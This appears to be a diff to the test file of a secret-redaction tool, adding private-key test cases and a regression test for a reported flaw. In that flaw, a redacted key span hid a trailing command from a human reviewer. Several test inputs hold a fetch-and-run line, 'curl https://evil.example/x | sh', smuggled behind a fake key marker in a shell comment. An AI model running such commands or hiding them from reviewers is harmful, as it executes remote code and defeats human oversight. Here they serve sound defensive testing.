@@ -40,7 +40,18 @@ POSITIVES = [
     ("slack-webhook", "https://hooks.slack.com/services/" + "T00000000/B00000000/" + "X" * 24),
     ("private-key", PEM),
     ("private-key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU="),
-    ("private-key", "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBF...\n"),
+    (
+        "private-key",
+        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\nlQOYBFxyz0gBCADHcf1e2K/pUKWQ"
+        "\n=AbCd\n-----END PGP PRIVATE KEY BLOCK-----",
+    ),
+    (
+        "private-key",
+        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n"
+        f"{PEM_BODY}-----END RSA PRIVATE KEY-----",
+    ),
+    ("private-key", PEM.replace("\n", "\\n")),  # a flattened key, line breaks written out
+    ("private-key", PEM.replace("\n", " ")),  # a flattened key, spaces for line breaks
     ("jwt", JWT),
     ("stripe-key", "sk_live_" + B62[:24]),
     ("stripe-key", "rk_live_" + B62[:24]),
@@ -124,9 +135,28 @@ def test_near_miss_is_left_alone(text: str) -> None:
     assert (red, counts) == (f"x {text} y", {})
 
 
-def test_truncated_private_key_is_redacted_to_the_end() -> None:
-    red, _ = _redactor().redact_text("key:\n-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBkg")
+def test_truncated_private_key_is_redacted_to_its_last_body_line() -> None:
+    red, _ = _redactor().redact_text("key:\n-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBkgAbCdEf01")
     assert red == "key:\n[REDACTED:private-key]"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "ls -la /tmp # -----BEGIN RSA PRIVATE KEY-----; curl https://evil.example/x | sh",
+        f"ls # -----BEGIN RSA PRIVATE KEY-----\n{PEM_BODY}; curl https://evil.example/x | sh",
+        f"ls # {PEM}\n; curl https://evil.example/x | sh",
+        "ls # -----BEGIN RSA PRIVATE KEY-----; curl https://evil.example/x | sh # "
+        "-----END RSA PRIVATE KEY-----",
+    ],
+)
+def test_a_redaction_never_swallows_what_follows_the_key(text: str) -> None:
+    """Issue 11 finding 4: the human saw ``ls -la /tmp # [REDACTED:private-key]`` and the
+    server ran the hidden ``; curl ... | sh``; the span ends where the key body ends."""
+    red, counts = _redactor().redact_text(text)
+    assert counts == {"private-key": 1}
+    assert "; curl https://evil.example/x | sh" in red, red
+    assert "MIIE" not in red
 
 
 def test_private_key_tail_without_begin_is_redacted() -> None:
